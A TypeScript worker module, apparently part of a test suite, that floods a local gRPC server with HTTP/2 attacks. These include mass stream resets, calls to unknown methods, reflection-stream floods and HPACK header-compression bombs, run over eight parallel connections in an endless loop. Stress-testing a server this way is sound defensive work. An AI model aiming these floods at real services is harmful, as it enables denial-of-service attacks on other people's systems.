import type http2 from 'node:http2';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { workerData } from 'node:worker_threads';
import { callsInFrames } from './raw-frames.ts';
import { EMPTY_MESSAGE, LIST, openSession, openStream, question, REFLECTION } from './raw-grpc.ts';

/** A worker that attacks a gRPC port on new connections, again and again, until it is terminated. */

export interface StreamFlood {
  readonly port: number;
  readonly flood: keyof typeof inFrames | keyof typeof inSessions;
}

/** What is sent as soon as a connection is open, whatever comes of it. */
const inFrames = {
  resets: callsInFrames(LIST, 4000, true),
  'unknown methods': callsInFrames('/nobody/Nothing', 4000, false),
  'health checks': callsInFrames('/grpc.health.v1.Health/Check', 4000, false),
};

const inSessions = {
  reflection(session: http2.ClientHttp2Session) {
    for (const stream of [openStream(session, REFLECTION), openStream(session, REFLECTION)])
      for (let at = 0; at < 4000; at += 1) stream.write(question(300));
  },
  'header bombs'(session: http2.ClientHttp2Session) {
    // One entry of the compression table, and a byte for each time it is named again.
    const headers = { 'x-long': Array.from({ length: 100 }, () => 'x'.repeat(3000)) };
    for (let at = 0; at < 400; at += 1) openStream(session, LIST, headers).end(EMPTY_MESSAGE);
  },
};

/** How many connections there are at a time. */
const AT_A_TIME = 8;
/** How long one lasts that is not put out. */
const LIFETIME_MS = 500;

const { port, flood }: StreamFlood = workerData;

async function sendFrames(bytes: Buffer): Promise<void> {
  const socket = connect(port, '127.0.0.1');
  socket.on('error', () => {});
  socket.resume();
  const gone = new Promise((resolve) => socket.once('close', resolve));
  socket.write(bytes);
  await Promise.race([gone, pause(LIFETIME_MS)]);
  socket.destroy();
}

async function useSession(attack: (session: http2.ClientHttp2Session) => void): Promise<void> {
  const session = openSession(port);
  const gone = new Promise((resolve) => session.once('close', resolve));
  attack(session);
  await Promise.race([gone, pause(LIFETIME_MS)]);
  session.destroy();
}

async function attackOn(): Promise<never> {
  for (;;) {
    if (flood in inFrames) await sendFrames(inFrames[flood as keyof typeof inFrames]);
    else await useSession(inSessions[flood as keyof typeof inSessions]);
  }
}

await Promise.all(Array.from({ length: AT_A_TIME }, attackOn));
